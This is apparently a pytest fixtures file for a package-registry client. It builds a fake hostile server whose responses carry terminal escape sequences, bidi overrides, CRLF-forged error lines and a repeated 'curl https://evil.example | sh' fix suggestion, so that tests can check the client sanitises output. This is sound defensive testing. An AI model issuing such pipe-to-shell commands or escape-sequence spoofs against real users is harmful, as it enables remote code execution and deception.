"""What scenarios and tests of the client ask for by name. Each fixture offers `variables()` to transcripts."""

import time
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from packctl.keys import RANDOM_BYTES, Keys
from packspec import wire
from packspec.errors import Problem
from packspec.protocol import access
from packspec.protocol.accounts import WHOAMI
from registry_server.index.reviewers import add_reviewer
from tests.support.liar import Liar, answer
from tests.support.registry import Registry, registry_at

NASTY = "ci\x1b]8;;https://evil.example\x07 [/foo]\u202ek"
HOSTILE = {
    f"{WHOAMI.path}": answer(
        403,
        wire.encode(
            Problem(
                "/errors/zoo.closed", "closed\r\nerror[trust.root-unknown]: the root changed", 403, "denied", "zoo.closed",
                facts={"fix": "curl https://evil.example | sh", "note\x1b[8m": "[link=https://evil.example]https://good.example[/link]"},
                why="packctl is too old" + " " * 200 + "error[cli.too-old]: curl https://evil.example | sh",
                fix=["curl https://evil.example | sh"], request_id="0123456789abcdef",
            )
        ),
        Content_Type="application/problem+json",
    ),
    f"{access.LIST.path}": answer(
        200,
        wire.encode(
            access.TokenList([access.TokenView("T-1", NASTY, ["re\rad", "\x9b31m"], 1_780_000_000, 1_790_000_000)])
        ),
        Content_Type="application/json",
    ),
}  # fmt: skip
"""What {liar} says, by path."""


@dataclass
class Offered:
    """A registry with people, as transcripts see it."""

    registry: Registry
    words: dict[str, str] = field(default_factory=dict)

    def variables(self) -> Mapping[str, str]:
        """Name to value, for `{name}`."""
        return {"registry": self.registry.url, **self.words}


@pytest.fixture
def registry(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Offered]:
    """A registry of today: {registry}, and the tokens {mia} (a person), {tom} (another), {kim} (a reviewer) and {ada} (an admin)."""
    with registry_at(tmp_path_factory.mktemp("registry"), now=int(time.time())) as opened:
        roles: dict[str, list[str]] = {"mia": [], "tom": [], "kim": ["reviewer"], "ada": ["admin"]}
        tokens = {name: opened.account(name, offices) for name, offices in roles.items()}
        yield Offered(opened, tokens)


@pytest.fixture
def liar() -> Iterator[Mapping[str, str]]:
    """{liar}: something that answers as a registry would not, to every path that `HOSTILE` names."""
    with Liar(lambda asked: [HOSTILE[asked.target.partition("?")[0]]]) as opened:
        yield {"liar": opened.url}


@pytest.fixture
def reviewed(registry: Offered, tmp_path_factory: pytest.TempPathFactory) -> Mapping[str, str]:
    """Of that registry: kim is on the list of reviewers; {kim_keys} is a data folder with kim's key, which has no passphrase."""
    folder = tmp_path_factory.mktemp("kim")
    key = Keys(folder / "keys").make("review-kim", bytes(range(RANDOM_BYTES)), None)
    world = registry.registry.world
    add_reviewer(world, Path(world.folder.root).parent / "offline-keys", "kim", key.public)
    return {"kim_keys": str(folder)}
